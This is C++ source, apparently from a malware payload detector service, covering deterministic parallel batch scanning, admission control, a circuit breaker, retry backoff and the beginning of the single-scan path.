// the two properties a detector pipeline cannot trade away:
//
//   * Determinism — the verdicts, MEL values, degraded flags and typed
//     status codes of a batch are bit-for-bit identical to a sequential
//     ScanService::scan loop over the same payloads (with matching
//     ScanRequest::fault_sequence), for ANY worker count and ANY
//     scheduling interleaving. This holds because each scan is a pure
//     function of (payload, config): workers share one immutable
//     detector, each result lands in its payload's own pre-sized slot,
//     and per-worker stat shards are merged by commutative sums. Fault
//     injection included: every item scans under a util::fault::ScanScope
//     keyed by its batch index, so armed triggers — counters with any
//     fire_every, probability streams — fire as a pure function of
//     (trigger, item index), independent of interleaving.
//   * Bounded resources — worker count and task-queue depth are fixed at
//     construction; batches past max_batch_items are refused whole with
//     kResourceExhausted, consistent with the stream tier's
//     backpressure semantics.
//
// Work distribution is dynamic (workers claim the next unscanned index
// from an atomic cursor), so a batch of mixed payload sizes stays
// balanced without any effect on results. Each worker reuses one
// exec::MelScratch arena across all payloads it claims — the decode
// loop's working memory is allocated O(workers) times per batch, not
// O(payloads).
//
// Thread-safety: scan_batch() may itself be called from multiple threads
// concurrently (batches interleave over the shared pool); stats()
// aggregates across all of them.

#include <atomic>
#include <chrono>
#include <cstdint>
#include <memory>
#include <vector>

#include "mel/service/scan_service.hpp"
#include "mel/util/thread_pool.hpp"

namespace mel::service {

struct BatchConfig {
  /// Per-scan behavior: limits, degradation ladder, detector knobs.
  ServiceConfig service;
  /// Pool width. 0 = one worker per hardware thread.
  std::size_t workers = 0;
  /// Task-queue capacity of the underlying pool (>= 1). Each concurrent
  /// scan_batch() enqueues at most `workers` runner tasks.
  std::size_t queue_capacity = 256;
  /// Largest batch accepted; bigger ones are refused whole with
  /// kResourceExhausted (0 = unlimited).
  std::uint64_t max_batch_items = 0;
  /// Collect per-scan trace spans into every item's report (the
  /// per-stage latency histograms are recorded either way). Costs one
  /// span-vector copy per payload.
  bool collect_traces = false;
  /// Per-item retry policy for transient (util::is_retryable) failures:
  /// shed admissions, open breakers, allocation pressure. Default
  /// max_attempts = 1 disables retries. Retry delays are deterministic
  /// per (retry.seed, item index) — parallel == sequential holds with
  /// retries on.
  RetryOptions retry;

  [[nodiscard]] util::Status validate() const;
};

/// One slot of a batch result. `status` carries the typed refusal
/// (payload cap, deadline, resources) exactly as the sequential service
/// would have returned it; when OK, `report` is the scan report.
struct BatchItemResult {
  util::Status status;
  ScanReport report;

  [[nodiscard]] bool is_ok() const noexcept { return status.is_ok(); }
};

/// Plain (non-atomic) per-batch aggregates, summed from per-worker
/// shards after the last worker finishes — no racing writers by design.
struct BatchStats {
  std::uint64_t payloads = 0;
  std::uint64_t bytes_scanned = 0;   ///< Bytes of payloads with verdicts.
  std::uint64_t completed = 0;       ///< Items that returned a verdict.
  std::uint64_t rejected = 0;        ///< Items refused with a typed error.
  std::uint64_t degraded = 0;        ///< Verdicts flagged degraded.
  std::uint64_t alarms = 0;          ///< Malicious verdicts.
  std::uint64_t retried = 0;         ///< Retry attempts (not first tries).
  std::array<std::uint64_t, util::kStatusCodeCount> rejects_by_code{};

  [[nodiscard]] std::uint64_t rejects(util::StatusCode code) const noexcept {
    return rejects_by_code[static_cast<std::size_t>(code)];
  }
  void merge(const BatchStats& shard) noexcept;
};

struct BatchScanResult {
  /// Exactly one entry per input payload, in input order.
  std::vector<BatchItemResult> items;
  BatchStats stats;
  std::chrono::nanoseconds elapsed{0};
  std::size_t workers_used = 0;
};

class BatchScanService {
 public:
  /// Validates the config; kInvalidConfig instead of clamping.
  [[nodiscard]] static util::StatusOr<BatchScanService> create(
      BatchConfig config);

  /// Movable for create()/StatusOr. Moving with batches in flight is
  /// outside the contract.
  BatchScanService(BatchScanService&& other) noexcept
      : config_(std::move(other.config_)),
        service_(std::move(other.service_)),
        pool_(std::move(other.pool_)),
        retries_counter_(other.retries_counter_),
        lifecycle_(other.lifecycle_.load(std::memory_order_relaxed)),
        active_batches_(
            other.active_batches_.load(std::memory_order_relaxed)) {
    wire_queue_probe();
  }

  /// Scans every payload across the pool; blocks until the batch is
  /// complete. Result order matches input order. Refuses oversized
  /// batches whole (kResourceExhausted) — no partial consumption.
  [[nodiscard]] util::StatusOr<BatchScanResult> scan_batch(
      const std::vector<util::ByteView>& payloads) const;
  /// Convenience overload for owned-buffer corpora.
  [[nodiscard]] util::StatusOr<BatchScanResult> scan_batch(
      const std::vector<util::ByteBuffer>& payloads) const;

  [[nodiscard]] const BatchConfig& config() const noexcept { return config_; }
  [[nodiscard]] std::size_t worker_count() const noexcept {
    return pool_->worker_count();
  }
  /// Cumulative stats of the shared underlying ScanService (across every
  /// batch and caller so far).
  [[nodiscard]] const ServiceStats& service_stats() const noexcept {
    return service_.stats();
  }
  /// The shared service's metrics registry (all workers record into it;
  /// the merged snapshot is schedule-independent for non-latency series).
  [[nodiscard]] obs::MetricsRegistry& metrics() const noexcept {
    return service_.metrics();
  }
  [[nodiscard]] obs::MetricsSnapshot metrics_snapshot() const {
    return service_.metrics_snapshot();
  }

  /// Health/lifecycle: this tier's own state while serving batches, the
  /// inner service's (breaker-aware) state otherwise.
  [[nodiscard]] ServiceState state() const noexcept;
  /// Graceful shutdown: refuses new batches, waits for every in-flight
  /// batch to deliver all of its verdicts, then drains the inner
  /// ScanService (flushing its stream tail). Idempotent.
  std::vector<core::StreamAlert> drain();

  /// Mutable access to the shared inner service, for wiring that must
  /// target the live instance — e.g. persist::StateManager's apply hook
  /// calling apply_calibration() to hot-swap the serving detector while
  /// batches are in flight.
  [[nodiscard]] ScanService& service() noexcept { return service_; }

  /// The inner service's admission controller / breaker, for probes.
  [[nodiscard]] const AdmissionController& admission() const noexcept {
    return service_.admission();
  }
  [[nodiscard]] const CircuitBreaker& breaker() const noexcept {
    return service_.breaker();
  }
  /// Pool-queue refusal/depth evidence (see util::ThreadPool).
  [[nodiscard]] const util::ThreadPool& pool() const noexcept {
    return *pool_;
  }

 private:
  BatchScanService(BatchConfig config, ScanService service);

  /// Points the inner service's queue-depth shedding at this pool.
  void wire_queue_probe();

  BatchConfig config_;
  ScanService service_;
  std::unique_ptr<util::ThreadPool> pool_;
  obs::Counter retries_counter_;
  std::atomic<ServiceState> lifecycle_{ServiceState::kStarting};
  mutable std::atomic<std::size_t> active_batches_{0};
};

}  // namespace mel::service
