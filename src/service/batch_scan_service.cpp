#include "mel/service/batch_scan_service.hpp"

#include <atomic>
#include <condition_variable>
#include <mutex>
#include <string>
#include <thread>
#include <utility>

#include "mel/exec/mel.hpp"
#include "mel/util/fault_injection.hpp"

namespace mel::service {

namespace {

/// Join point for one batch: scan_batch() blocks here until every runner
/// task it enqueued has finished. A condvar latch (rather than futures)
/// keeps the task type a plain std::function and the runner loop
/// allocation-free.
class BatchLatch {
 public:
  explicit BatchLatch(std::size_t count) : remaining_(count) {}

  void count_down() {
    std::lock_guard<std::mutex> lock(mutex_);
    if (--remaining_ == 0) done_.notify_all();
  }
  void wait() {
    std::unique_lock<std::mutex> lock(mutex_);
    done_.wait(lock, [this] { return remaining_ == 0; });
  }

 private:
  std::mutex mutex_;
  std::condition_variable done_;
  std::size_t remaining_;
};

}  // namespace

util::Status BatchConfig::validate() const {
  if (util::Status status = service.validate(); !status.is_ok()) {
    return status;
  }
  if (util::Status status = retry.validate(); !status.is_ok()) {
    return status;
  }
  return util::ThreadPoolOptions{.workers = workers,
                                 .queue_capacity = queue_capacity}
      .validate();
}

void BatchStats::merge(const BatchStats& shard) noexcept {
  payloads += shard.payloads;
  bytes_scanned += shard.bytes_scanned;
  completed += shard.completed;
  rejected += shard.rejected;
  degraded += shard.degraded;
  alarms += shard.alarms;
  retried += shard.retried;
  for (std::size_t i = 0; i < rejects_by_code.size(); ++i) {
    rejects_by_code[i] += shard.rejects_by_code[i];
  }
}

BatchScanService::BatchScanService(BatchConfig config, ScanService service)
    : config_(std::move(config)), service_(std::move(service)) {
  pool_ = std::make_unique<util::ThreadPool>(util::ThreadPoolOptions{
      .workers = config_.workers, .queue_capacity = config_.queue_capacity});
  // Same series name ScanService registers, so sequential and batch
  // registries stay bit-identical; this handle does the incrementing.
  retries_counter_ = service_.metrics().counter(
      "mel_scan_retries_total", "Per-item retry attempts (batch tier).");
  wire_queue_probe();
  lifecycle_.store(ServiceState::kServing, std::memory_order_release);
}

void BatchScanService::wire_queue_probe() {
  service_.set_queue_depth_probe(
      [pool = pool_.get()] { return pool->queue_depth(); });
}

util::StatusOr<BatchScanService> BatchScanService::create(BatchConfig config) {
  if (util::Status status = config.validate(); !status.is_ok()) {
    return status;
  }
  util::StatusOr<ScanService> service = ScanService::create(config.service);
  if (!service.is_ok()) return service.status();
  return BatchScanService(std::move(config), std::move(service).take());
}

util::StatusOr<BatchScanResult> BatchScanService::scan_batch(
    const std::vector<util::ByteView>& payloads) const {
  const auto start = util::fault::now();

  // Claim the active-batch slot BEFORE the lifecycle check (mirroring
  // ScanService::scan), so drain() either sees this batch in the count
  // or this batch sees kDraining — never neither.
  active_batches_.fetch_add(1, std::memory_order_acq_rel);
  struct ActiveBatch {
    std::atomic<std::size_t>* counter;
    ~ActiveBatch() { counter->fetch_sub(1, std::memory_order_acq_rel); }
  } active{&active_batches_};

  const ServiceState lifecycle = lifecycle_.load(std::memory_order_acquire);
  if (lifecycle != ServiceState::kServing) {
    return util::Status::unavailable(
               "batch service " +
               std::string(service_state_name(lifecycle)) +
               ", not accepting batches")
        .with_retry_after(config_.service.admission.retry_after_hint);
  }
  if (config_.max_batch_items != 0 &&
      payloads.size() > config_.max_batch_items) {
    return util::Status::resource_exhausted(
        "batch of " + std::to_string(payloads.size()) +
        " payloads exceeds max_batch_items " +
        std::to_string(config_.max_batch_items));
  }

  BatchScanResult result;
  result.items.resize(payloads.size());
  if (payloads.empty()) return result;

  const std::size_t runners =
      std::min(pool_->worker_count(), payloads.size());
  result.workers_used = runners;

  // Dynamic scheduling: runners claim the next unscanned index. Every
  // slot is written by exactly one runner; the latch orders all slot and
  // shard writes before the merge below.
  std::atomic<std::size_t> cursor{0};
  std::vector<BatchStats> shards(runners);
  BatchLatch latch(runners);

  for (std::size_t runner = 0; runner < runners; ++runner) {
    pool_->submit([this, &payloads, &result, &cursor, &shards, &latch,
                   runner] {
      exec::MelScratch scratch;  // One arena per runner, reused per claim.
      BatchStats& shard = shards[runner];
      for (;;) {
        const std::size_t index =
            cursor.fetch_add(1, std::memory_order_relaxed);
        if (index >= payloads.size()) break;
        const util::ByteView payload = payloads[index];
        BatchItemResult& item = result.items[index];

        // fault_sequence = index pins the fault scope to the item, so
        // armed triggers (any fire_every, probability) fire identically
        // at every worker count; the retry stream is pinned the same way.
        const ScanRequest request{.payload = payload,
                                  .collect_trace = config_.collect_traces,
                                  .scratch = &scratch,
                                  .fault_sequence = index};
        const auto item_start = util::fault::now();
        const auto deadline = config_.service.budget.deadline;
        RetrySchedule schedule(config_.retry, index);
        util::StatusOr<ScanReport> report = service_.scan(request);
        while (!report.is_ok()) {
          std::chrono::nanoseconds remaining{-1};
          if (deadline.count() > 0) {
            remaining = deadline - (util::fault::now() - item_start);
            if (remaining.count() < 0) remaining = {};
          }
          const auto backoff = schedule.next(report.status(), remaining);
          if (!backoff) break;
          ++shard.retried;
          retries_counter_.inc();
          if (backoff->count() > 0) std::this_thread::sleep_for(*backoff);
          report = service_.scan(request);
        }
        ++shard.payloads;
        if (!report.is_ok()) {
          item.status = report.status();
          ++shard.rejected;
          ++shard.rejects_by_code[static_cast<std::size_t>(report.code())];
          continue;
        }
        item.report = std::move(report).take();
        ++shard.completed;
        shard.bytes_scanned += payload.size();
        if (item.report.verdict.degraded) ++shard.degraded;
        if (item.report.verdict.malicious) ++shard.alarms;
      }
      latch.count_down();
    });
  }
  latch.wait();

  // Shard merge is a sum of non-negative counters — associative and
  // commutative, so the aggregate is schedule-independent.
  for (const BatchStats& shard : shards) result.stats.merge(shard);
  result.elapsed = util::fault::now() - start;
  return result;
}

ServiceState BatchScanService::state() const noexcept {
  const ServiceState lifecycle = lifecycle_.load(std::memory_order_acquire);
  if (lifecycle != ServiceState::kServing) return lifecycle;
  return service_.state();  // Folds in the breaker's health signal.
}

std::vector<core::StreamAlert> BatchScanService::drain() {
  ServiceState expected = ServiceState::kServing;
  if (!lifecycle_.compare_exchange_strong(expected, ServiceState::kDraining,
                                          std::memory_order_acq_rel)) {
    return {};  // Already draining/drained.
  }
  // In-flight batches first: their items must keep scanning through the
  // inner service, so it drains only after the last batch delivered all
  // of its verdicts. New batches observe kDraining and refuse.
  while (active_batches_.load(std::memory_order_acquire) != 0) {
    std::this_thread::yield();
  }
  std::vector<core::StreamAlert> alerts = service_.drain();
  lifecycle_.store(ServiceState::kStopped, std::memory_order_release);
  return alerts;
}

util::StatusOr<BatchScanResult> BatchScanService::scan_batch(
    const std::vector<util::ByteBuffer>& payloads) const {
  std::vector<util::ByteView> views;
  views.reserve(payloads.size());
  for (const util::ByteBuffer& payload : payloads) views.emplace_back(payload);
  return scan_batch(views);
}

}  // namespace mel::service
