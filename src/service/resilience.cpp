#include "mel/service/resilience.hpp"

#include <algorithm>
#include <cmath>
#include <utility>

#include "mel/util/fault_injection.hpp"

namespace mel::service {

namespace {

constexpr std::uint64_t kStreamGamma = 0x9E3779B97F4A7C15ull;

std::chrono::nanoseconds seconds_to_ns(double seconds) {
  return std::chrono::nanoseconds(
      static_cast<std::int64_t>(std::ceil(seconds * 1e9)));
}

}  // namespace

std::string_view service_state_name(ServiceState state) noexcept {
  switch (state) {
    case ServiceState::kStarting:
      return "starting";
    case ServiceState::kServing:
      return "serving";
    case ServiceState::kDegraded:
      return "degraded";
    case ServiceState::kDraining:
      return "draining";
    case ServiceState::kStopped:
      return "stopped";
  }
  return "unknown";
}

std::string_view breaker_state_name(BreakerState state) noexcept {
  switch (state) {
    case BreakerState::kClosed:
      return "closed";
    case BreakerState::kOpen:
      return "open";
    case BreakerState::kHalfOpen:
      return "half_open";
  }
  return "unknown";
}

// --- AdmissionController --------------------------------------------------

util::Status AdmissionConfig::validate() const {
  if (!(rate_per_sec >= 0.0) || !std::isfinite(rate_per_sec)) {
    return util::Status::invalid_config(
        "AdmissionConfig::rate_per_sec must be finite and >= 0");
  }
  if (rate_per_sec > 0.0 && !(burst >= 1.0 && std::isfinite(burst))) {
    return util::Status::invalid_config(
        "AdmissionConfig::burst must be >= 1 when rate_per_sec is set; a "
        "bucket that cannot hold one token admits nothing");
  }
  if (retry_after_hint.count() < 0) {
    return util::Status::invalid_config(
        "AdmissionConfig::retry_after_hint must be >= 0");
  }
  return util::Status::ok();
}

AdmissionController::AdmissionController(AdmissionConfig config)
    : config_(config),
      tokens_(config.burst),
      last_refill_(util::fault::now()) {}

AdmissionController::AdmissionController(AdmissionController&& other) noexcept
    : config_(other.config_),
      queue_depth_probe_(std::move(other.queue_depth_probe_)),
      tokens_(other.tokens_),
      last_refill_(other.last_refill_),
      in_flight_(other.in_flight_.load(std::memory_order_relaxed)),
      admitted_(other.admitted_.load(std::memory_order_relaxed)),
      shed_rate_(other.shed_rate_.load(std::memory_order_relaxed)),
      shed_concurrency_(
          other.shed_concurrency_.load(std::memory_order_relaxed)),
      shed_queue_(other.shed_queue_.load(std::memory_order_relaxed)),
      admitted_counter_(other.admitted_counter_),
      shed_rate_counter_(other.shed_rate_counter_),
      shed_concurrency_counter_(other.shed_concurrency_counter_),
      shed_queue_counter_(other.shed_queue_counter_),
      in_flight_gauge_(other.in_flight_gauge_),
      queue_depth_gauge_(other.queue_depth_gauge_) {}

void AdmissionController::set_queue_depth_probe(
    std::function<std::size_t()> probe) {
  queue_depth_probe_ = std::move(probe);
}

void AdmissionController::bind_metrics(obs::MetricsRegistry& registry,
                                       const std::string& prefix) {
  admitted_counter_ =
      registry.counter(prefix + "_admitted_total", "Requests admitted.");
  shed_rate_counter_ =
      registry.counter(prefix + "_shed_total",
                       "Requests refused with kUnavailable, by rule.",
                       "reason=\"rate_limit\"");
  shed_concurrency_counter_ =
      registry.counter(prefix + "_shed_total",
                       "Requests refused with kUnavailable, by rule.",
                       "reason=\"concurrency_cap\"");
  shed_queue_counter_ =
      registry.counter(prefix + "_shed_total",
                       "Requests refused with kUnavailable, by rule.",
                       "reason=\"queue_depth\"");
  in_flight_gauge_ = registry.gauge(prefix + "_in_flight",
                                    "Requests admitted and not yet finished.");
  queue_depth_gauge_ = registry.gauge(
      prefix + "_queue_depth",
      "Backing queue depth at the last admission decision.");
}

void AdmissionController::Permit::release() noexcept {
  if (controller_ != nullptr) controller_->release_permit();
  controller_ = nullptr;
}

void AdmissionController::release_permit() noexcept {
  const std::size_t now_in_flight =
      in_flight_.fetch_sub(1, std::memory_order_relaxed) - 1;
  in_flight_gauge_.set(static_cast<std::int64_t>(now_in_flight));
}

util::StatusOr<AdmissionController::Permit> AdmissionController::try_admit() {
  // Queue-depth shedding first: when the backing queue is already deep,
  // admitting more work only moves the wait somewhere less visible.
  if (config_.max_queue_depth != 0 && queue_depth_probe_) {
    const std::size_t depth = queue_depth_probe_();
    queue_depth_gauge_.set(static_cast<std::int64_t>(depth));
    if (depth > config_.max_queue_depth) {
      shed_queue_.fetch_add(1, std::memory_order_relaxed);
      shed_queue_counter_.inc();
      return util::Status::unavailable(
                 "shed: queue depth " + std::to_string(depth) + " > cap " +
                 std::to_string(config_.max_queue_depth))
          .with_retry_after(config_.retry_after_hint);
    }
  }

  // Concurrency cap: optimistic claim, rolled back on refusal.
  const std::size_t now_in_flight =
      in_flight_.fetch_add(1, std::memory_order_relaxed) + 1;
  if (config_.max_concurrent != 0 && now_in_flight > config_.max_concurrent) {
    in_flight_.fetch_sub(1, std::memory_order_relaxed);
    shed_concurrency_.fetch_add(1, std::memory_order_relaxed);
    shed_concurrency_counter_.inc();
    return util::Status::unavailable(
               "shed: " + std::to_string(config_.max_concurrent) +
               " scans already in flight")
        .with_retry_after(config_.retry_after_hint);
  }

  // Token bucket last, so queue/concurrency sheds never burn a token.
  if (config_.rate_per_sec > 0.0) {
    std::lock_guard<std::mutex> lock(bucket_mutex_);
    const auto now = util::fault::now();
    const double elapsed =
        std::chrono::duration<double>(now - last_refill_).count();
    if (elapsed > 0.0) {
      tokens_ = std::min(config_.burst,
                         tokens_ + elapsed * config_.rate_per_sec);
      last_refill_ = now;
    }
    if (tokens_ < 1.0) {
      in_flight_.fetch_sub(1, std::memory_order_relaxed);
      shed_rate_.fetch_add(1, std::memory_order_relaxed);
      shed_rate_counter_.inc();
      // Exact hint: when the missing fraction of a token accrues.
      const auto refill =
          seconds_to_ns((1.0 - tokens_) / config_.rate_per_sec);
      return util::Status::unavailable(
                 "shed: rate limit " +
                 std::to_string(config_.rate_per_sec) + "/s exceeded")
          .with_retry_after(refill);
    }
    tokens_ -= 1.0;
  }

  admitted_.fetch_add(1, std::memory_order_relaxed);
  admitted_counter_.inc();
  in_flight_gauge_.set(static_cast<std::int64_t>(now_in_flight));
  return Permit(this);
}

// --- CircuitBreaker -------------------------------------------------------

util::Status CircuitBreakerConfig::validate() const {
  if (!enabled) return util::Status::ok();
  if (window == 0) {
    return util::Status::invalid_config(
        "CircuitBreakerConfig::window must be >= 1");
  }
  if (min_samples == 0 || min_samples > window) {
    return util::Status::invalid_config(
        "CircuitBreakerConfig::min_samples must be in [1, window]");
  }
  if (!(failure_ratio > 0.0 && failure_ratio <= 1.0)) {
    return util::Status::invalid_config(
        "CircuitBreakerConfig::failure_ratio must be in (0, 1]");
  }
  if (open_for.count() < 0) {
    return util::Status::invalid_config(
        "CircuitBreakerConfig::open_for must be >= 0");
  }
  if (half_open_probes == 0) {
    return util::Status::invalid_config(
        "CircuitBreakerConfig::half_open_probes must be >= 1; the breaker "
        "could never close again");
  }
  return util::Status::ok();
}

CircuitBreaker::CircuitBreaker(CircuitBreakerConfig config)
    : config_(config) {
  if (config_.enabled) window_.assign(config_.window, 0);
}

CircuitBreaker::CircuitBreaker(CircuitBreaker&& other) noexcept
    : config_(other.config_),
      state_(other.state_.load(std::memory_order_relaxed)),
      window_(std::move(other.window_)),
      window_next_(other.window_next_),
      window_filled_(other.window_filled_),
      window_failures_(other.window_failures_),
      opened_at_(other.opened_at_),
      probes_issued_(other.probes_issued_),
      probes_succeeded_(other.probes_succeeded_),
      transitions_(other.transitions_.load(std::memory_order_relaxed)),
      rejections_(other.rejections_.load(std::memory_order_relaxed)),
      rejections_counter_(other.rejections_counter_),
      state_gauge_(other.state_gauge_) {
  for (std::size_t i = 0; i < 9; ++i) {
    transition_counters_[i] = other.transition_counters_[i];
  }
}

void CircuitBreaker::bind_metrics(obs::MetricsRegistry& registry,
                                  const std::string& prefix) {
  // Only the four transitions the state machine can make are registered;
  // the other [from][to] slots stay detached.
  struct Edge {
    BreakerState from, to;
  };
  constexpr Edge kEdges[] = {
      {BreakerState::kClosed, BreakerState::kOpen},
      {BreakerState::kOpen, BreakerState::kHalfOpen},
      {BreakerState::kHalfOpen, BreakerState::kOpen},
      {BreakerState::kHalfOpen, BreakerState::kClosed},
  };
  for (const Edge& edge : kEdges) {
    const std::size_t slot = static_cast<std::size_t>(edge.from) * 3 +
                             static_cast<std::size_t>(edge.to);
    transition_counters_[slot] = registry.counter(
        prefix + "_transitions_total", "Breaker state transitions.",
        "from=\"" + std::string(breaker_state_name(edge.from)) +
            "\",to=\"" + std::string(breaker_state_name(edge.to)) + "\"");
  }
  rejections_counter_ = registry.counter(
      prefix + "_rejections_total",
      "Requests refused because the breaker was open or probing.");
  state_gauge_ = registry.gauge(
      prefix + "_state", "Breaker state (0=closed, 1=open, 2=half_open).");
}

void CircuitBreaker::transition_locked(BreakerState to) {
  const BreakerState from = state_.load(std::memory_order_relaxed);
  if (from == to) return;
  state_.store(to, std::memory_order_relaxed);
  transitions_.fetch_add(1, std::memory_order_relaxed);
  transition_counters_[static_cast<std::size_t>(from) * 3 +
                       static_cast<std::size_t>(to)]
      .inc();
  state_gauge_.set(static_cast<std::int64_t>(to));
}

util::Status CircuitBreaker::try_acquire() {
  if (!config_.enabled) return util::Status::ok();
  std::lock_guard<std::mutex> lock(mutex_);
  switch (state_.load(std::memory_order_relaxed)) {
    case BreakerState::kClosed:
      return util::Status::ok();
    case BreakerState::kOpen: {
      const auto elapsed = util::fault::now() - opened_at_;
      if (elapsed >= config_.open_for) {
        transition_locked(BreakerState::kHalfOpen);
        probes_issued_ = 1;  // This caller is the first probe.
        probes_succeeded_ = 0;
        return util::Status::ok();
      }
      rejections_.fetch_add(1, std::memory_order_relaxed);
      rejections_counter_.inc();
      return util::Status::unavailable("circuit breaker open")
          .with_retry_after(config_.open_for - elapsed);
    }
    case BreakerState::kHalfOpen: {
      if (probes_issued_ < config_.half_open_probes) {
        ++probes_issued_;
        return util::Status::ok();
      }
      rejections_.fetch_add(1, std::memory_order_relaxed);
      rejections_counter_.inc();
      return util::Status::unavailable(
                 "circuit breaker half-open: probe quota in use")
          .with_retry_after(config_.open_for);
    }
  }
  return util::Status::internal("unreachable breaker state");
}

void CircuitBreaker::record(bool success) {
  if (!config_.enabled) return;
  std::lock_guard<std::mutex> lock(mutex_);
  switch (state_.load(std::memory_order_relaxed)) {
    case BreakerState::kClosed: {
      const std::uint8_t outcome = success ? 0 : 1;
      if (window_filled_ == window_.size()) {
        window_failures_ -= window_[window_next_];
      } else {
        ++window_filled_;
      }
      window_[window_next_] = outcome;
      window_failures_ += outcome;
      window_next_ = (window_next_ + 1) % window_.size();
      if (window_filled_ >= config_.min_samples &&
          static_cast<double>(window_failures_) >=
              config_.failure_ratio * static_cast<double>(window_filled_)) {
        transition_locked(BreakerState::kOpen);
        opened_at_ = util::fault::now();
        std::fill(window_.begin(), window_.end(), 0);
        window_next_ = window_filled_ = window_failures_ = 0;
      }
      break;
    }
    case BreakerState::kHalfOpen: {
      if (!success) {
        transition_locked(BreakerState::kOpen);
        opened_at_ = util::fault::now();
        probes_issued_ = probes_succeeded_ = 0;
        break;
      }
      if (++probes_succeeded_ >= config_.half_open_probes) {
        transition_locked(BreakerState::kClosed);
        probes_issued_ = probes_succeeded_ = 0;
      }
      break;
    }
    case BreakerState::kOpen:
      // A result that straddled the trip: the window was already reset.
      break;
  }
}

// --- RetrySchedule --------------------------------------------------------

util::Status RetryOptions::validate() const {
  if (max_attempts == 0) {
    return util::Status::invalid_config(
        "RetryOptions::max_attempts must be >= 1 (1 disables retries)");
  }
  if (base_backoff.count() < 0) {
    return util::Status::invalid_config(
        "RetryOptions::base_backoff must be >= 0");
  }
  if (max_backoff < base_backoff) {
    return util::Status::invalid_config(
        "RetryOptions::max_backoff must be >= base_backoff");
  }
  return util::Status::ok();
}

RetrySchedule::RetrySchedule(const RetryOptions& options,
                             std::uint64_t stream) noexcept
    : options_(options), previous_(options.base_backoff) {
  // Splitmix of (seed, stream): batch item i draws the same jitter
  // sequence at any worker count.
  std::uint64_t state = options.seed + (stream + 1) * kStreamGamma;
  rng_ = util::Xoshiro256(util::splitmix64_next(state));
}

std::optional<std::chrono::nanoseconds> RetrySchedule::next(
    const util::Status& status,
    std::chrono::nanoseconds remaining_budget) noexcept {
  if (!util::is_retryable(status)) return std::nullopt;
  if (attempt_ >= options_.max_attempts) return std::nullopt;
  // Decorrelated jitter: uniform in [base, 3 * previous], capped.
  const std::int64_t base = options_.base_backoff.count();
  const std::int64_t hi = std::max(base, 3 * previous_.count());
  std::int64_t backoff_ns = base;
  if (hi > base) backoff_ns = rng_.next_in(base, hi);
  backoff_ns = std::min(backoff_ns, options_.max_backoff.count());
  auto backoff = std::chrono::nanoseconds(backoff_ns);
  // The service's own hint is a floor: it knows when capacity returns.
  if (status.retry_after() > backoff) backoff = status.retry_after();
  if (remaining_budget.count() >= 0 && backoff >= remaining_budget) {
    return std::nullopt;
  }
  previous_ = backoff;
  ++attempt_;
  return backoff;
}

}  // namespace mel::service
