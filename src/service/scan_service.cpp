#include "mel/service/scan_service.hpp"

#include <cmath>
#include <new>
#include <utility>

#include "mel/util/fault_injection.hpp"
#include "mel/util/logging.hpp"

namespace mel::service {

namespace {

using util::fault::Point;

core::StreamConfig make_stream_config(const ServiceConfig& config) {
  core::StreamConfig stream;
  stream.detector = config.detector;
  stream.window_size = config.stream_window_size;
  stream.overlap = config.stream_overlap;
  stream.keep_window_bytes = config.keep_window_bytes;
  stream.max_buffered_bytes = config.stream_buffer_cap;
  stream.window_budget = config.budget;
  return stream;
}

/// Mirrors MelDetector::derive_threshold's degenerate-input guard: when
/// the estimate has no statistical basis, the detector falls back to
/// threshold = input size, which can never flag anything. The service
/// turns that silent give-up into an explicit degraded verdict.
bool estimation_degenerate(const core::Verdict& verdict) {
  const auto n = static_cast<std::int64_t>(std::llround(verdict.params.n));
  return n < 1 || verdict.params.p <= 0.0 || verdict.params.p >= 1.0;
}

}  // namespace

util::Status ServiceConfig::validate() const {
  if (util::Status status = detector.validate(); !status.is_ok()) {
    return status;
  }
  if (!(degraded_threshold >= 0.0)) {  // !(..) also catches NaN.
    return util::Status::invalid_config(
        "ServiceConfig::degraded_threshold must be >= 0; got " +
        std::to_string(degraded_threshold));
  }
  if (budget.deadline.count() < 0) {
    return util::Status::invalid_config(
        "ServiceConfig::budget.deadline must be >= 0");
  }
  return make_stream_config(*this).validate();
}

ScanService::ScanService(ServiceConfig config)
    : config_(std::move(config)),
      detector_(config_.detector),
      stream_(make_stream_config(config_)) {}

util::StatusOr<ScanService> ScanService::create(ServiceConfig config) {
  if (util::Status status = config.validate(); !status.is_ok()) {
    return status;
  }
  return ScanService(std::move(config));
}

util::Status ScanService::reject(std::uint64_t scan_id,
                                 util::Status status) const {
  ++stats_.scans_rejected;
  ++stats_.rejects_by_code[static_cast<std::size_t>(status.code())];
  util::log_warn_ctx({.component = "service", .scan_id = scan_id},
                     "scan rejected: ", status.to_string());
  return status;
}

util::StatusOr<ScanOutcome> ScanService::scan(util::ByteView payload) const {
  exec::MelScratch scratch;
  return scan(payload, scratch);
}

util::StatusOr<ScanOutcome> ScanService::scan(util::ByteView payload,
                                              exec::MelScratch& scratch) const {
  const std::uint64_t scan_id =
      next_scan_id_.fetch_add(1, std::memory_order_relaxed);
  ++stats_.scans_attempted;
  const auto start = util::fault::now();

  // Chaos hook: a clock that jumps at scan entry must surface as a
  // deadline rejection below, never as a half-trusted verdict.
  if (util::fault::should_fire(Point::kClockSkew)) {
    util::fault::advance_clock(util::fault::time_jump());
  }

  if (config_.max_payload_bytes != 0 &&
      payload.size() > config_.max_payload_bytes) {
    return reject(scan_id,
                  util::Status::payload_too_large(
                      std::to_string(payload.size()) + " bytes > cap " +
                      std::to_string(config_.max_payload_bytes)));
  }
  const auto deadline = config_.budget.deadline;
  if (deadline.count() > 0 && util::fault::now() - start >= deadline) {
    return reject(scan_id, util::Status::deadline_exceeded(
                               "deadline passed before scanning began"));
  }

  // Chaos hook: an upstream partial read hands us a cut-short window.
  // The scan proceeds on the prefix but the verdict must say so.
  util::ByteView view = payload;
  bool truncated_input = false;
  if (util::fault::should_fire(Point::kTruncatedWindow) &&
      payload.size() > 1) {
    view = payload.first(payload.size() / 2);
    truncated_input = true;
  }

  ScanOutcome outcome;
  outcome.scan_id = scan_id;
  try {
    if (util::fault::should_fire(Point::kAllocFailure)) {
      throw std::bad_alloc{};
    }
    outcome.verdict = detector_.scan(view, config_.budget, scratch);
  } catch (const std::bad_alloc&) {
    return reject(scan_id, util::Status::resource_exhausted(
                               "allocation failure during scan"));
  }

  core::Verdict& verdict = outcome.verdict;
  if (verdict.mel_detail.deadline_exceeded) {
    // The caller's time budget is gone; a partial answer now helps
    // nobody downstream. (With early exit on, a payload whose partial
    // MEL already cleared tau alarmed before the deadline could trip.)
    return reject(scan_id,
                  util::Status::deadline_exceeded(
                      "scan exceeded its deadline after " +
                      std::to_string(verdict.mel_detail.instructions_decoded) +
                      " decoded instructions"));
  }

